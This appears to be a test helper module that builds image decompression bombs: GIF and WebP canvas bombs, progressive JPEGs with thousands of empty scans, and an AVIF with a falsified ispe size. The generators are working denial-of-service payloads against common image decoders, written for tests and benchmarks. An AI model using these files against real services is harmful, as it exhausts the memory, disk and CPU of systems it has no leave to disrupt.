"""Image bombs: small files whose decode costs far more than their size says (issue F).

One function per bomb shape, each returning the file's bytes, deterministic, parametrised so that
tests can make small fast versions and the bench the full-size ones the review measured:

    gif_canvas_bomb()            21 KB GIF, 10000x10000 screen, 900 full-size frames
    webp_canvas_bomb()           43 KB animated WebP, 10000x10000 VP8X canvas, 900 frames
    jpeg_progressive_bomb()      ~1 MB progressive JPEG, 10000x10000, 2 647 valid scans
    jpeg_repeated_scans_bomb()   ~700 KB progressive JPEG repeating one scan 17 641 times
    avif_ispe_bomb(dir)          AVIF whose ispe says 1x1 over a 12000x12000 AV1 frame

Only the standard library; the AVIF needs `heif-enc` (libheif-examples, which
scripts/install-deps.sh installs) and is cached in the folder it is given.

    python3 tests/bombs.py OUTDIR      writes every full-size bomb to OUTDIR

NEVER open these with an uncapped decoder: one 20 KB GIF of this kind made libvips write 77 GB
of temporary files. Run decoders with TMPDIR on a small dedicated folder and
`ulimit -v 4000000 -f 1000000`.
"""

from __future__ import annotations

import struct
import subprocess
import sys
import zlib
from pathlib import Path

# ---------------------------------------------------------------------------------------------
# GIF


def gif_canvas_bomb(width: int = 10000, height: int = 10000, frames: int = 900) -> bytes:
    """A GIF whose logical screen and every frame are width x height, but each frame's LZW data
    is only "clear, end": 20-odd bytes a frame. Decoders composite every frame onto a full-size
    canvas (width * height * 4 bytes each): 900 frames of 10000^2 are 360 GB of pixels."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    # Graphic control (50 ms, no disposal), then a full-size image descriptor; LZW minimum code
    # size 2: clear (4) and end of information (5) in 3-bit codes are the one byte 0x2C.
    frame = (b"\x21\xf9\x04\x04\x05\x00\x00\x00" + b"\x2c" +
             struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x01\x2c\x00")
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    return head + loop + frame * frames + b"\x3b"


# ---------------------------------------------------------------------------------------------
# WebP

# A valid 1x1 lossless (VP8L) bitstream: the payload of a VP8L chunk (13 bytes).
_VP8L_1X1 = bytes.fromhex("2f000000100710111188 88fe07".replace(" ", ""))


def _riff_chunk(fourcc: bytes, payload: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(payload)) + payload + (b"\0" if len(payload) & 1 else b"")


def webp_canvas_bomb(width: int = 10000, height: int = 10000, frames: int = 900) -> bytes:
    """An animated WebP whose VP8X canvas is width x height and whose frames (ANMF) are 1x1 each:
    ~48 bytes a frame. Decoders render every frame onto the full canvas (width * height * 4 bytes
    each), however small the frame."""
    vp8x = struct.pack("<B3x", 0x12) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    anim = struct.pack("<IH", 0xFFFFFFFF, 0)  # background colour, loop forever
    # ANMF: x/2, y/2, width-1, height-1 (24 bits each), duration 50 ms, no blend/dispose flags.
    anmf = _riff_chunk(b"ANMF", bytes(6) + bytes(6) + (50).to_bytes(3, "little") + b"\0" +
                       _riff_chunk(b"VP8L", _VP8L_1X1))
    body = b"WEBP" + _riff_chunk(b"VP8X", vp8x) + _riff_chunk(b"ANIM", anim) + anmf * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


# ---------------------------------------------------------------------------------------------
# JPEG (ITU T.81 progressive mode, Annex G)


class _Bits:
    """MSB-first bit writer with JPEG byte stuffing (0xFF -> 0xFF 0x00)."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def put(self, value: int, length: int) -> None:
        self.acc = (self.acc << length) | value
        self.n += length
        while self.n >= 8:
            self.n -= 8
            byte = (self.acc >> self.n) & 0xFF
            self.out += b"\xff\x00" if byte == 0xFF else bytes([byte])
        self.acc &= (1 << self.n) - 1

    def flush(self) -> bytes:
        if self.n:
            self.put((1 << (8 - self.n)) - 1, 8 - self.n)  # pad with 1 bits
        return bytes(self.out)


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def _eob_runs(blocks: int) -> bytes:
    """Entropy-coded data of an AC scan in which every one of `blocks` blocks is empty: EOBRUN
    symbols (EOBn = n << 4, n extra bits, up to 32 767 blocks each), coded with the AC table
    _jpeg_header() defines (all 15 symbols 4 bits long: EOBn is the code n)."""
    bits = _Bits()
    while blocks:
        run = min(blocks, 32767)
        n = run.bit_length() - 1
        bits.put(n, 4)
        bits.put(run - (1 << n), n)
        blocks -= run
    return bits.flush()


def _jpeg_header(width: int, height: int, components: int) -> bytes:
    dqt = _segment(0xDB, b"\x00" + b"\x01" * 64)
    sof2 = _segment(0xC2, struct.pack(">BHHB", 8, height, width, components) +
                    b"".join(bytes([c + 1, 0x11, 0]) for c in range(components)))
    # DC table 0: one symbol (difference category 0) with the 1-bit code 0. AC table 0: the 15
    # EOBRUN symbols 0x00..0xE0, 4 bits each.
    dht = _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00" +
                   b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(n << 4 for n in range(15)))
    return b"\xff\xd8" + dqt + sof2 + dht


def _dc_scan(blocks: int, components: int) -> bytes:
    """One interleaved DC first scan (Ss=Se=0, Ah=Al=0): one '0' bit (no difference) per block,
    padded with 1 bits."""
    sos = _segment(0xDA, bytes([components]) + b"".join(bytes([c + 1, 0x00]) for c in range(components)) +
                   b"\x00\x00\x00")
    full, rest = divmod(blocks * components, 8)
    return sos + bytes(full) + (bytes([(1 << (8 - rest)) - 1]) if rest else b"")


def _ac_scan(component: int, ss: int, se: int, ah: int, al: int, blocks: int) -> bytes:
    sos = _segment(0xDA, bytes([1, component + 1, 0x00, ss, se, (ah << 4) | al]))
    return sos + _eob_runs(blocks)


def jpeg_progressive_bomb(width: int = 10000, height: int = 10000, components: int = 3,
                          refinements: int = 13) -> bytes:
    """A progressive JPEG with the longest valid progression: after one DC scan, each of the 63
    AC coefficients of each component gets its own first scan (Al = refinements) and then
    `refinements` successive-approximation scans down to Al = 0: 1 + components * 63 *
    (refinements + 1) scans (2 647 with the defaults). Every scan is a few EOBRUN symbols (all
    coefficients zero), yet libjpeg walks all width * height / 64 blocks of its coefficient buffer
    (width * height * components * 2 bytes) for each one."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    scans = [_dc_scan(blocks, components)]
    for c in range(components):
        for k in range(1, 64):
            scans.append(_ac_scan(c, k, k, 0, refinements, blocks))
            scans += [_ac_scan(c, k, k, al + 1, al, blocks) for al in reversed(range(refinements))]
    return _jpeg_header(width, height, components) + b"".join(scans) + b"\xff\xd9"


def jpeg_repeated_scans_bomb(width: int = 4096, height: int = 4096, scans: int = 17641,
                             components: int = 1) -> bytes:
    """A progressive JPEG that repeats one AC scan (Ss=1..Se=63, Ah=Al=0) `scans` times. The
    repeat is not even a warning in libjpeg (Ah matches what the previous scan left), and each
    scan is ~40 bytes of EOBRUN symbols over width * height / 64 blocks that libjpeg all
    visits."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    scan = _ac_scan(0, 1, 63, 0, 0, blocks)
    return (_jpeg_header(width, height, components) + _dc_scan(blocks, components) +
            scan * scans + b"\xff\xd9")


# ---------------------------------------------------------------------------------------------
# AVIF


def flat_png(width: int, height: int, grey: int = 0x80) -> bytes:
    """A flat 8-bit greyscale PNG (the AVIF encoder's input)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    z = zlib.compressobj(9)
    row = b"\0" + bytes([grey]) * width
    idat = b"".join(z.compress(row) for _ in range(height)) + z.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)) +
            chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def encode_avif(png: Path, out: Path) -> bytes:
    """heif-enc's AVIF (libaom, fastest speed) of `png`; heif-enc is deterministic."""
    subprocess.run(["heif-enc", "-A", "-p", "speed=9", "-q", "10", "-o", str(out), str(png)],
                   check=True, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    return out.read_bytes()


def patch_ispe(avif: bytes, width: int = 1, height: int = 1) -> bytes:
    """Every ispe property of `avif` rewritten to width x height (the AV1 data is untouched)."""
    out = bytearray(avif)
    at = out.find(b"ispe")
    assert at > 4, "no ispe box"
    while at > 4:
        struct.pack_into(">II", out, at + 8, width, height)  # after type, version and flags
        at = out.find(b"ispe", at + 4)
    return bytes(out)


def avif_ispe_bomb(cache_dir: Path, size: int = 12000, ispe: tuple[int, int] = (1, 1)) -> bytes:
    """An AVIF whose ispe property says 1x1 over a size x size AV1 frame: a header check believes
    the ispe, the AV1 decoder allocates the frame its sequence header says (12000^2: ~1 GB of
    RSS). The honest AVIF is encoded once into `cache_dir` (12000^2 takes a few seconds) and
    reused."""
    cache_dir = Path(cache_dir)
    honest = cache_dir / f"flat-{size}.avif"
    if not honest.exists():
        cache_dir.mkdir(parents=True, exist_ok=True)
        png = cache_dir / f"flat-{size}.png"
        png.write_bytes(flat_png(size, size))
        tmp = cache_dir / f"flat-{size}.tmp.avif"
        encode_avif(png, tmp)
        tmp.replace(honest)
        png.unlink()
    return patch_ispe(honest.read_bytes(), *ispe)


# ---------------------------------------------------------------------------------------------


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print(f"usage: {argv[0]} OUTDIR", file=sys.stderr)
        return 2
    out = Path(argv[1])
    out.mkdir(parents=True, exist_ok=True)
    bombs = {
        "gif-canvas-10000x10000x900.gif": gif_canvas_bomb(),
        "webp-canvas-10000x10000x900.webp": webp_canvas_bomb(),
        "jpeg-progressive-10000x10000-2647-scans.jpg": jpeg_progressive_bomb(),
        "jpeg-repeated-4096x4096-17641-scans.jpg": jpeg_repeated_scans_bomb(),
        "avif-ispe-1x1-over-12000x12000.avif": avif_ispe_bomb(out / ".cache"),
    }
    for name, data in bombs.items():
        (out / name).write_bytes(data)
        print(f"{out / name}: {len(data)} bytes")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
